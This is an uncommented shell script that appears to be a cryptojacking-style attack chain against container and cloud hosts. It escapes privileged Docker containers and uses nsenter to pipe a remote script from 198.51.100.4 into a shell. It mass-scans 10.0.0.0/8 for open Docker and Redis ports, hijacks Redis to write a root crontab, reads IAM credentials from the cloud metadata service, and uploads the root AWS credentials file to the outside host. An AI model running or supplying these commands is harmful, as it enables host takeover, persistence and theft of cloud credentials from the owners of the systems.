#!/bin/sh
docker run -d --privileged --net=host -v /:/host alpine chroot /host sh -c "curl -s http://198.51.100.4/i.sh | sh"
nsenter --target 1 --mount --uts --ipc --net --pid -- sh -c "wget -qO- http://198.51.100.4/i.sh | sh"
masscan 10.0.0.0/8 -p2375,6379 --rate 10000 -oL /tmp/.scan
redis-cli -h $TARGET config set dir /var/spool/cron
redis-cli -h $TARGET config set dbfilename root
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ > /tmp/.aws
curl -F "f=@/root/.aws/credentials" http://198.51.100.4/up
